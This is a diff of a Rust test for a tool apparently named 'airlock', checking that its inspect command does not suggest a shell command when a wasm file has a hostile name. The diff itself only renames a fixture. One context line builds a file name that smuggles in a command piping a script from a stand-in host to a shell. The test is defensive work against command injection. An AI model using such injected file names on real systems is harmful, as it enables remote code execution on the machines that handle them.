@@ -248,8 +248,8 @@ fn inspect_suggests_no_command_with_a_hostile_file_name() {
     std::fs::create_dir_all(&dir).unwrap();
     let stem = "x; curl -s evil.example:8080|sh #";
     let wasm = dir.join(format!("{stem}.wasm"));
-    std::fs::copy(fixture_wasm("spin"), &wasm).unwrap();
-    std::fs::write(dir.join(format!("{stem}.toml")), manifest("spin", "")).unwrap();
+    std::fs::copy(fixture_wasm("busy_loop"), &wasm).unwrap();
+    std::fs::write(dir.join(format!("{stem}.toml")), manifest("busy-loop", "")).unwrap();
     let out = home.airlock(&["inspect", wasm.to_str().unwrap()]);
     let text = String::from_utf8_lossy(&out.stdout);
     let approval = text
@@ -259,13 +259,13 @@ fn inspect_suggests_no_command_with_a_hostile_file_name() {
     assert!(approval.contains("rename it"), "{text}");
     assert!(!approval.contains("curl"), "{text}");
 
-    let tidy = dir.join("spin.wasm");
-    std::fs::copy(fixture_wasm("spin"), &tidy).unwrap();
-    std::fs::write(dir.join("spin.toml"), manifest("spin", "")).unwrap();
+    let tidy = dir.join("busy-loop.wasm");
+    std::fs::copy(fixture_wasm("busy_loop"), &tidy).unwrap();
+    std::fs::write(dir.join("busy-loop.toml"), manifest("busy-loop", "")).unwrap();
     let out = home.airlock(&["inspect", tidy.to_str().unwrap()]);
     let text = String::from_utf8_lossy(&out.stdout);
     assert!(
-        text.contains("run `airlock adapters approve spin`"),
+        text.contains("run `airlock adapters approve busy-loop`"),
         "{text}"
     );
 }
